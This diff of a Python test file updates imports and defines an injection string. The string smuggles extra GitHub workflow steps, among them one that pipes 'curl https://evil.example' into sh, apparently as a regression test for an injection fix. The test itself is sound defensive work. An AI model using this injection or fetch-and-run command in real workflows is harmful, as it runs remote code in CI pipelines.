@@ -13,8 +13,8 @@ import pytest
 import yaml
 from click.testing import CliRunner
 
-from mlnb.cli import cli
-from mlnb.workflows import github_workflow
+from mlnb.cli.app import cli
+from mlnb.jobs.workflows import github_workflow
 
 # Before the fix this --vs gave the workflow four extra steps running `curl ... | sh`.
 INJECTED_STEP = "x\n      - name: pwn\n        run: curl https://evil.example | sh\n      - name: y"
